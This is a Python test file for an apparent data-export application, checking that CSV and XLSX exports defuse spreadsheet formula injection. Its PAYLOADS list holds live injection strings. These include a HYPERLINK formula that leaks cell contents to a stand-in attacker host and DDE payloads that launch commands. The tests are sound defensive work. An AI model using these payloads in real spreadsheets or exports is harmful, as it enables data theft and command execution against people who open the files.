"""Spreadsheet formula injection: a value someone typed that begins with =, +, -, @ (or a tab or a
carriage return) never becomes a formula when an export is opened in a spreadsheet program.

CSV cells that would be read as formulas get a leading apostrophe, which spreadsheets show as plain
text; the subject-access package's `read_csv` takes it off again, so the package still reads back
exactly. XLSX cells are written as text cells, never formulas.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from strongroom.accounts.invitations import do_update_workspace_settings
from strongroom.accounts.models import User, Workspace
from strongroom.privacy import records
from strongroom.rights.formats import (
    CSV_EXPORT,
    Column,
    ColumnType,
    SubjectExport,
    Table,
    Value,
    read_csv,
    render_csv,
    render_xlsx,
)

PAYLOADS = (
    '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
)
HARMLESS = ("plain text", "'quoted but harmless", "a=b", "", "\\N", "1-2")


def export_of(texts: tuple[str, ...]) -> SubjectExport:
    columns = (Column("note", "Note", ColumnType.TEXT), Column("amount", "Amount", ColumnType.INTEGER))
    rows: tuple[dict[str, Value], ...] = tuple({"note": text, "amount": -5} for text in texts)
    table = Table("notes", "Notes", "", columns, rows)
    return SubjectExport(PAYLOADS[0], datetime(2026, 1, 2, tzinfo=UTC), (table,))


def test_csv_cells_of_the_subject_package_never_start_a_formula_and_read_back_exactly() -> None:
    export = export_of(PAYLOADS + HARMLESS)
    files = render_csv(export)
    cells = [cell for name in ("notes.csv", CSV_EXPORT)
             for row in csv.reader(io.StringIO(files[name].decode("utf-8"))) for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}]
    assert [cell for cell in cells if cell.startswith("-")] == ["-5"] * len(PAYLOADS + HARMLESS)  # numbers
    assert "'=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")" in cells
    assert "''=already quoted" in cells and "'''+twice" in cells and "'quoted but harmless" in cells
    assert read_csv(files) == export


def test_xlsx_cells_of_the_subject_package_are_text_not_formulas() -> None:
    sheet = load_workbook(io.BytesIO(render_xlsx(export_of(PAYLOADS))))["notes"]
    cells = [cell for row in sheet.iter_rows(min_row=2, max_col=1) for cell in row]
    assert [cell.value for cell in cells] == list(PAYLOADS)
    assert {cell.data_type for cell in cells} == {"s"}


@pytest.mark.django_db
def test_the_record_of_processing_exports_keep_a_hostile_workspace_name_as_text(
    owner: User, workspace: Workspace
) -> None:
    do_update_workspace_settings(workspace, owner, name=PAYLOADS[0], controller_contact=PAYLOADS[3])
    workspace.refresh_from_db()
    record = records.controller_record(workspace)

    rows = list(csv.reader(io.StringIO(records.to_csv(record).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[3] in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]

    sheet = load_workbook(io.BytesIO(records.to_xlsx(record))).active
    assert sheet is not None
    hostile = [cell for row in sheet.iter_rows() for cell in row if cell.value in (PAYLOADS[0], PAYLOADS[3])]
    assert hostile and {cell.data_type for cell in hostile} == {"s"}
